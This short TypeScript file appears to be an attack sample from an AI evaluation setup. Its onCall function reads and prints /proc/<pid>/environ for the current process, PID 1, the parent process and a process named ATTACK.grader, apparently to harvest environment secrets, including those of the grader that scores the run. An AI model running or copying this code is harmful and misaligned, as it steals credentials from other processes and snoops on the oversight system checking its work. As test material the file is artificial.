// Reads the environment and the memory of other processes.

import * as fs from 'node:fs';

export function onCall(): void {
  for (const pid of ['self', 1, process.ppid, ATTACK.grader]) {
    try {
      console.log(fs.readFileSync(`/proc/${pid}/environ`, 'utf8'));
    } catch {}
  }
}
